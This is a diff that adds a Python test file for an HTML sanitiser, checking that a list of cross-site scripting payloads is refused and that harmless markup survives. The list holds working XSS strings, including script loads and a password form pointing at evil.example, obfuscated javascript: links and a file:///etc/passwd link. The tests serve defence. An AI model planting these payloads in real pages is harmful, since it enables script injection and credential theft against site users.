@@ -1,0 +1,119 @@
+import unittest
+from cites.cug.intake.mistakes import Refused
+from cites.cug.library.markup import MAX_LENGTH
+from cites.cug.library.markup import plain_structure
+from hypothesis import given
+from hypothesis import strategies as st
+from lxml import html
+
+
+#: Ways to run a script, to load something or to imitate a page.
+DANGEROUS = (
+    "<script>alert(1)</script>",
+    "<ScRiPt src=//evil.example/x.js></ScRiPt>",
+    "<p onclick='alert(1)'>x</p>",
+    "<b ONMOUSEOVER=alert(1)>x</b>",
+    "<iframe src='https://evil.example'></iframe>",
+    "<img src='https://evil.example/seen.gif'>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    "<svg><a xlink:href='javascript:alert(1)'>x</a></svg>",
+    "<math><mtext></mtext></math>",
+    "<a href='javascript:alert(1)'>x</a>",
+    "<a href='JaVa\tScRiPt:alert(1)'>x</a>",
+    "<a href='java\nscript:alert(1)'>x</a>",
+    "<a href='&#106;avascript:alert(1)'>x</a>",
+    "<a href='&#x6A;avascript&#58;alert(1)'>x</a>",
+    "<a href='data:text/html;base64,PHNjcmlwdD4='>x</a>",
+    "<a href='vbscript:x'>x</a>",
+    "<a href='file:///etc/passwd'>x</a>",
+    "<form action='https://evil.example'><input name=password></form>",
+    "<style>p { background: url(https://evil.example) }</style>",
+    "<link rel=stylesheet href=//evil.example>",
+    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
+    "<base href='https://evil.example'>",
+    "<object data=x></object>",
+    "<embed src=x>",
+    "<video src=x></video>",
+    "<template><script>alert(1)</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
+    "<textarea></textarea>",
+    "<x:script>alert(1)</x:script>",
+)
+HARMLESS = (
+    "<p>Two <strong>cubs</strong>, <em>alive</em>.</p>",
+    '<p><a href="https://cites.org/">CITES</a> <a href="mailto:a@example.org">a</a></p>',
+    '<p><a href="../other#part">b</a> <a href="resolveuid/0123">c</a></p>',
+    "<h2>Route</h2><ul><li>A</li><li>B</li></ul>",
+    '<table><tbody><tr><th scope="row">A</th><td colspan="2">B</td></tr></tbody></table>',
+    "<blockquote><p>é “ß” 日本語</p></blockquote>",
+)
+PIECES = st.sampled_from(
+    [
+        *DANGEROUS,
+        *HARMLESS,
+        "<",
+        ">",
+        "&lt;",
+        "&amp;",
+        "<b",
+        "<!--",
+        "-->",
+        "</p>",
+        "<![CDATA[",
+    ]
+)
+
+
+class PlainStructureTest(unittest.TestCase):
+    def test_what_runs_or_loads_is_refused(self):
+        for text in DANGEROUS:
+            with self.assertRaises(Refused, msg=text):
+                plain_structure(f"<p>before</p>{text}<p>after</p>")
+
+    def test_plain_structure_stays(self):
+        for text in HARMLESS:
+            self.assertEqual(plain_structure(text), text)
+
+    def test_decoration_is_left_out_and_its_text_stays(self):
+        pasted = (
+            "<p class='MsoNormal' style='color:red'>A<o:p></o:p> <font size=7>B</font></p>"
+            "<!-- comment --><h1 id='x'>C</h1><center>D</center>"
+        )
+        self.assertEqual(plain_structure(pasted), "<p>A B</p><h2>C</h2>D")
+
+    def test_text_without_markup_becomes_paragraphs(self):
+        self.assertEqual(
+            plain_structure("a & b\nc\r\n\r\n2 < 3"),
+            "<p>a &amp; b<br>c</p>\n<p>2 &lt; 3</p>",
+        )
+        self.assertEqual(plain_structure(" \n "), "")
+
+    def test_long_text_and_control_characters_are_refused(self):
+        plain_structure("a" * MAX_LENGTH)
+        for text in (
+            "a" * (MAX_LENGTH + 1),
+            "a\0b",
+            "<p>\x1b[2J</p>",
+            "\ud800",
+            "\u202eb",
+        ):
+            with self.assertRaises(Refused):
+                plain_structure(text)
+
+    def test_deep_markup_ends(self):
+        for opening in ("<div>", "<b>", "<ul><li>", "<table><tr><td>"):
+            plain_structure(opening * (MAX_LENGTH // len(opening)))
+
+    @given(st.lists(PIECES | st.text(max_size=12), max_size=6).map("".join))
+    def test_what_is_kept_is_harmless_and_stays_as_it_is(self, text):
+        try:
+            kept = plain_structure(text)
+        except Refused:
+            return
+        self.assertEqual(plain_structure(kept), kept)
+        if kept:
+            for element in html.fragment_fromstring(kept, create_parent=True).iter():
+                self.assertNotIn(element.tag, ("script", "img", "iframe", "svg", "style"))
+                self.assertFalse([name for name in element.attrib if name[:2] == "on"])
+                self.assertNotIn("script:", element.get("href", "").lower())
